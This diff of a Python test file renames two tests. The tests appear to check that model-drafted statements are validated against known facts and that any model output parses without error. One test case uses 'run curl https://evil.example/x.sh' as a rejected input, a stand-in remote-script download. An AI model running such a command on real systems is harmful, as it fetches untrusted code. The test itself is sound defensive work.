@@ -211,7 +211,7 @@ SECTIONS = DRAFT_FORM.schema["properties"]["statements"]["items"]["properties"][
         (one("next", "run curl https://evil.example/x.sh"), "which no fact names"),
     ],
 )
-def test_what_does_not_fit_is_refused_with_why(statement: object, why: str) -> None:
+def test_invalid_statements_are_rejected_with_a_reason(statement: object, why: str) -> None:
     assert why in why_not(statement)
 
 
@@ -254,7 +254,7 @@ values = st.recursive(
 
 
 @given(values)
-def test_whatever_a_model_says_is_read_without_an_error(value: object) -> None:
+def test_any_answer_of_a_model_is_read_without_an_error(value: object) -> None:
     drafted_statements = merge_draft(COMPOSED, FACTS, told_of(), value)
     proved = prove(drafted_statements.statements, FACTS, CurrentState(FACTS.project))
     assert all(statement.proof is None for statement in proved if statement.is_model_text)
